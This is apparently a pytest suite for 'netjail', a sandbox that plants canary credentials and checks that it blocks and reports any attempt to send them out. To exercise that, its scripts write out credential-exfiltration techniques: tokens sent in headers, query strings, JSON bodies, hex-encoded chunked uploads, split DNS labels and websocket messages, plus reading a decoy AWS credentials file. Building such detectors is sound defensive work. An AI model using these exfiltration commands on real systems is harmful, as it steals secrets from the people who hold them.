"""audit.canaries with the real binary: a canary the command sends out — in a header, a query string, a JSON body,
a DNS name — is refused before the origin sees it, stops the run (exit 122, run_end `canary_tripped`) and is named
by `netjail audit`; a run whose tools read the default credential names goes on; no record, flow file, HAR or log
echoes a canary."""

from __future__ import annotations

import base64
import json
import sys
import threading
import time
from http.server import ThreadingHTTPServer
from pathlib import Path

import pytest

from netjail.detect.canaries import DECOY_FILE
from tests.support.netjail import Netjail, Result
from tests.support.servers import OriginHandler, tls_server_context

pytestmark = pytest.mark.nonroot

TRIPPED = 122


class RecordingHandler(OriginHandler):
    """The origin's own log: every request line, header block and body it received, as bytes."""

    def parse_request(self) -> bool:
        ok = super().parse_request()
        self.server.raw.append(self.raw_requestline + bytes(self.headers))  # type: ignore[attr-defined]
        return ok

    def do_POST(self) -> None:
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            self._chunked()
        else:
            self.server.raw.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))  # type: ignore[attr-defined]
        self._reply(200, b"ok\n")

    def _chunked(self) -> None:
        """What arrived of a chunked body, kept also when the stream was cut before its end."""
        body = b""
        try:
            while line := self.rfile.readline():
                size = int(line.strip().split(b";")[0] or b"0", 16)
                if size == 0:
                    break
                body += self.rfile.read(size)
                self.rfile.readline()
        except (OSError, ValueError):
            pass
        finally:
            self.server.raw.append(body)  # type: ignore[attr-defined]


def _recording_origin(context=None):
    server = ThreadingHTTPServer(("127.0.0.1", 0), RecordingHandler)
    server.daemon_threads = True
    server.label, server.seen, server.raw = "canary-origin", [], []  # type: ignore[attr-defined]
    if context is not None:
        server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture
def origin():
    server = _recording_origin()
    yield server
    server.shutdown()


@pytest.fixture
def tls_origin(test_ca):
    server = _recording_origin(tls_server_context(test_ca[0], "allowed.test"))
    yield server
    server.shutdown()


def _settings(netjail: Netjail, **audit) -> Path:
    return netjail.settings(
        {"allowedDomains": ["allowed.test", "*.allowed.test"]}, audit={"canaries": True, **audit}
    )


def _leaks(value: str) -> list[bytes]:
    raw = value.encode()
    return [raw, raw.hex().encode(), base64.b64encode(raw)[:-4], base64.b32encode(raw)[:-8]]


def _assert_never_echoed(netjail: Netjail, result: Result, value: str) -> None:
    """No file of the run (flows.jsonl, flows.mitm, proxy.log, …), no HAR, nothing netjail printed holds the
    canary in any of its forms (the command's own output file aside)."""
    assert result.run_dir is not None
    har = netjail.tmp_path / "run.har"
    exported = netjail.command("export", "--har", str(har))
    assert exported.returncode == 0, exported.stderr
    texts = {p.name: p.read_bytes() for p in result.run_dir.rglob("*") if p.is_file()}
    texts |= {"har": har.read_bytes(), "stderr": result.stderr.encode(), "stdout": result.stdout.encode()}
    texts["audit"] = netjail.command("audit", "--json").stdout.encode()
    for name, data in texts.items():
        for form in _leaks(value):
            assert form not in data, f"{name} holds a form of the canary"


def _run(netjail: Netjail, script: str, *args: str) -> tuple[Result, str]:
    """Runs `script` (bash) with canaries on; it writes the canary it sends to `sent.txt` first."""
    result = netjail.run(*args, "-s", str(_settings(netjail)), "-c", script, timeout=90)
    sent = (netjail.work / "sent.txt").read_text().strip() if (netjail.work / "sent.txt").exists() else ""
    return result, sent


def _assert_tripped(
    netjail: Netjail, result: Result, origin, sent: str, canary: str, where: str, phrase: str
) -> dict:
    assert result.returncode == TRIPPED, result.explain()
    assert sent and not any(sent.encode() in chunk for chunk in origin.raw)  # the origin never got it
    assert not (netjail.work / "after.txt").exists()  # the command was stopped there
    end = result.records[-1]
    assert end["event"] == "run_end" and end["reason"] == "canary_tripped" and end["exit_status"] == TRIPPED
    assert canary in end["message"]
    tripped = [r for r in result.records if r.get("canaries")]
    assert tripped, result.records
    record = tripped[0]
    assert record["verdict"] == "deny" and record["reason"] == "canary_tripped"
    assert record["canaries"][0]["canary"] == canary and where in record["canaries"][0]["where"]
    report = json.loads(netjail.command("audit", "--json").stdout)
    assert [c["canary"] for c in report["canaries"]] == [canary]
    text = netjail.command("audit").stdout
    assert phrase in text, text
    assert netjail.command("audit", "--check").returncode == 3
    html = netjail.tmp_path / "audit.html"
    assert netjail.command("audit", "--html", str(html)).returncode == 0
    assert canary in html.read_text() and sent not in html.read_text()
    assert f"netjail: canary {canary}" in result.stderr
    _assert_never_echoed(netjail, result, sent)
    return record


def test_a_canary_in_a_header_is_refused_and_stops_the_run(netjail: Netjail, origin) -> None:
    """The command would go on for 30 s after its request: it is killed, the run ends well before."""
    started = time.monotonic()
    result, sent = _run(
        netjail,
        f"""printf %s "$LEGACY_GH_TOKEN" > sent.txt
        curl -sS -o /dev/null -H "X-Deploy: $LEGACY_GH_TOKEN" http://allowed.test:{origin.server_port}/h
        sleep 30; echo late > after.txt""",
    )
    assert time.monotonic() - started < 20, result.explain()
    _assert_tripped(
        netjail, result, origin, sent, "LEGACY_GH_TOKEN", "header x-deploy",
        "canary LEGACY_GH_TOKEN went to host allowed.test in the x-deploy header",
    )  # fmt: skip


def test_a_canary_in_basic_auth_over_https(netjail: Netjail, tls_origin) -> None:
    """Inside an intercepted TLS connection, base64 in Authorization: Basic; a request before it (the control)
    reaches the origin."""
    url = f"https://allowed.test:{tls_origin.server_port}"
    result, sent = _run(
        netjail,
        f"""printf %s "$LEGACY_OPENAI_KEY" > sent.txt
        curl -sS -o /dev/null {url}/before
        curl -sS -o /dev/null -u "deploy:$LEGACY_OPENAI_KEY" {url}/basic
        echo late > after.txt""",
    )
    assert any(b"/before" in chunk for chunk in tls_origin.raw), result.explain()
    assert not any(b"/basic" in chunk for chunk in tls_origin.raw)
    _assert_tripped(
        netjail, result, tls_origin, sent, "LEGACY_OPENAI_KEY", "header authorization",
        "canary LEGACY_OPENAI_KEY went to host allowed.test in the authorization header (refused, base64)",
    )  # fmt: skip


def test_a_canary_in_a_query_string(netjail: Netjail, origin) -> None:
    result, sent = _run(
        netjail,
        f"""printf %s "$DEPLOY_AWS_KEY_ID" > sent.txt
        curl -sS -o /dev/null "http://allowed.test:{origin.server_port}/q?key=$DEPLOY_AWS_KEY_ID"
        echo late > after.txt""",
        "-d",  # the debug log names the canaries, never a value (checked with stderr)
    )
    assert "DEPLOY_AWS_KEY_ID" in result.stderr
    _assert_tripped(
        netjail, result, origin, sent, "DEPLOY_AWS_KEY_ID", "query",
        "canary DEPLOY_AWS_KEY_ID went to host allowed.test in the query string",
    )  # fmt: skip


def test_a_canary_from_the_decoy_file_in_a_json_body(netjail: Netjail, origin) -> None:
    """Python in the jail reads the decoy file and posts its key JSON-escaped with \\u escapes."""
    program = (
        "import json, re, urllib.request\n"
        f"text = open({DECOY_FILE!r}).read()\n"
        "key = re.search(r'aws_secret_access_key = (\\S+)', text).group(1)\n"
        "open('sent.txt', 'w').write(key)\n"
        "body = json.dumps({'k': key}).replace(key[:4], ''.join('\\\\u%04x' % ord(c) for c in key[:4]))\n"
        f"req = urllib.request.Request('http://allowed.test:{origin.server_port}/j', body.encode(),\n"
        "                              {'Content-Type': 'application/json'})\n"
        "try:\n    urllib.request.urlopen(req, timeout=20)\nexcept Exception as e:\n    print(e)\n"
        "open('after.txt', 'w').write('late')\n"
    )
    (netjail.work / "post.py").write_text(program)
    result, sent = _run(netjail, f"{sys.executable} post.py")
    _assert_tripped(
        netjail, result, origin, sent, f"{DECOY_FILE} aws_secret_access_key", "body",
        f"canary {DECOY_FILE} aws_secret_access_key went to host allowed.test in the request body",
    )  # fmt: skip


def test_a_canary_in_a_streamed_body_is_cut(netjail: Netjail, origin) -> None:
    """A chunked upload (no length: watched as it streams), the canary hex-encoded after 4 KB of filler."""
    result, sent = _run(
        netjail,
        f"""printf %s "$BACKUP_PYPI_TOKEN" > sent.txt
        {{ head -c 4096 /dev/zero | tr '\\0' a; printf %s "$BACKUP_PYPI_TOKEN" | od -An -tx1 | tr -d ' \\n'; }} |
          curl -sS -o /dev/null -H "Transfer-Encoding: chunked" --data-binary @- \
          http://allowed.test:{origin.server_port}/upload
        echo late > after.txt""",
    )
    assert not any(sent.encode().hex().encode()[:40] in chunk for chunk in origin.raw)
    _assert_tripped(
        netjail, result, origin, sent, "BACKUP_PYPI_TOKEN", "body",
        "canary BACKUP_PYPI_TOKEN went to host allowed.test in the request body",
    )  # fmt: skip


def test_a_canary_in_a_dns_name_split_across_labels(netjail: Netjail, origin) -> None:
    script = (
        'printf %s "$BACKUP_NPM_TOKEN" > sent.txt\n'
        'h=$(printf %s "$BACKUP_NPM_TOKEN" | od -An -tx1 | tr -d " \\n")\n'
        'getent hosts "${h:0:40}.${h:40}.allowed.test"\n'
        "echo late > after.txt"
    )
    result, sent = _run(netjail, script)
    record = _assert_tripped(
        netjail, result, origin, sent, "BACKUP_NPM_TOKEN", "dns",
        "canary BACKUP_NPM_TOKEN went to host canary-BACKUP-NPM-TOKEN.allowed.test in a DNS lookup",
    )  # fmt: skip
    assert record["event"] == "dns" and record["answer"] == "NXDOMAIN"
    assert record["name"] == "canary-BACKUP-NPM-TOKEN.allowed.test"


def test_a_run_whose_tools_read_the_default_names_is_not_stopped(netjail: Netjail, origin) -> None:
    """Control: GITHUB_TOKEN passed in and sent, the canaries present but untouched, the decoy file readable."""
    env = {**netjail.env, "GITHUB_TOKEN": "ghp_" + "Ctrl0" * 7 + "X"}
    cfg = netjail.settings(
        {"allowedDomains": ["allowed.test"]}, audit={"canaries": True}, envPassthrough=["GITHUB_TOKEN"]
    )
    script = (
        f'curl -sS -o /dev/null -H "Authorization: Bearer $GITHUB_TOKEN" '
        f"http://allowed.test:{origin.server_port}/ctl\n"
        'printf %s "$LEGACY_GH_TOKEN" > sent.txt\n'
        f"test -s {DECOY_FILE} && env | grep -c -E '^(DEPLOY_AWS_KEY_ID|LLM_FALLBACK_KEY)=' > planted.txt"
    )
    result = netjail.run("-s", str(cfg), "-c", script, env=env)
    assert result.returncode == 0, result.explain()
    assert any(b"/ctl" in chunk and env["GITHUB_TOKEN"].encode() in chunk for chunk in origin.raw)
    assert (netjail.work / "planted.txt").read_text().strip() == "2"
    assert result.records[-1]["reason"] == "exited"
    assert not any(r.get("canaries") for r in result.records)
    report = json.loads(netjail.command("audit", "--json").stdout)
    assert report["canaries"] == []
    _assert_never_echoed(netjail, result, (netjail.work / "sent.txt").read_text())


def test_without_the_setting_nothing_is_planted(netjail: Netjail) -> None:
    cfg = netjail.settings({"allowedDomains": ["allowed.test"]})
    result = netjail.run("-s", str(cfg), "-c", f"env > env.txt; test ! -e {DECOY_FILE}")
    assert result.returncode == 0, result.explain()
    assert "LEGACY_GH_TOKEN" not in (netjail.work / "env.txt").read_text()


def test_the_shape_detectors_skip_this_runs_placeholders(netjail: Netjail, origin) -> None:
    """A masked GitHub token's placeholder (plain HTTP: left as it is) is reported as a placeholder, not as "a GitHub
    token is in the x-token header"; a token nobody declared, beside it, still is (the control)."""
    undeclared = "ghp_" + "Zz9" * 12
    env = {**netjail.env, "GH_PAT": "ghp_" + "Real1" * 7 + "R"}
    cfg = netjail.settings(
        {"allowedDomains": ["allowed.test"]},
        credentials={"envVars": [{"name": "GH_PAT", "mode": "mask", "injectHosts": ["allowed.test"]}]},
    )
    url = f"http://allowed.test:{origin.server_port}"
    script = f'curl -sS -o /dev/null -H "X-Token: $GH_PAT" {url}/p; curl -sS -o /dev/null -H "X-Token: {undeclared}" {url}/u'
    result = netjail.run("-s", str(cfg), "-c", script, env=env)
    assert result.returncode == 0, result.explain()
    by_path = {f["path"]: f for f in result.flows}
    assert by_path["/p"]["credentials"]["placeholder_left"][0]["where"] == ["header x-token"]
    assert [f for f in by_path["/p"]["flags"] if f["kind"] == "credential"] == []
    assert [f["kind"] for f in by_path["/u"]["flags"]] == ["credential"]


def test_a_canary_in_a_websocket_message(netjail: Netjail, ws_origin) -> None:
    """The first message (the control) is echoed; the second carries a canary: dropped, and the run stopped."""
    program = f"""
import os, socket
from wsproto import ConnectionType, WSConnection
from wsproto.events import AcceptConnection, Message, Request
value = os.environ["LLM_FALLBACK_KEY"]
open("sent.txt", "w").write(value)
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT allowed.test:{ws_origin.port} HTTP/1.1\\r\\nHost: allowed.test:{ws_origin.port}\\r\\n\\r\\n")
assert s.recv(4096).startswith(b"HTTP/1.1 200")
ws = WSConnection(ConnectionType.CLIENT)
s.sendall(ws.send(Request(host="allowed.test:{ws_origin.port}", target="/chat")))
def pump():
    ws.receive_data(s.recv(65536))
    return list(ws.events())
assert any(isinstance(e, AcceptConnection) for e in pump())
s.sendall(ws.send(Message(data="hello")))
print([e.data for e in pump() if isinstance(e, Message)])
s.sendall(ws.send(Message(data="key=" + value)))
try:
    pump()
except Exception:
    pass
open("after.txt", "w").write("late")
"""
    (netjail.work / "ws.py").write_text(program)
    result, sent = _run(netjail, f"{sys.executable} ws.py")
    assert "hello" in ws_origin.received and not any(sent in str(m) for m in ws_origin.received)
    assert result.returncode == TRIPPED, result.explain()
    assert result.records[-1]["reason"] == "canary_tripped"
    (flow,) = [r for r in result.records if r.get("canaries")]
    assert flow["canaries"][0]["canary"] == "LLM_FALLBACK_KEY"
    assert flow["canaries"][0]["where"] == ["websocket message"]
    _assert_never_echoed(netjail, result, sent)
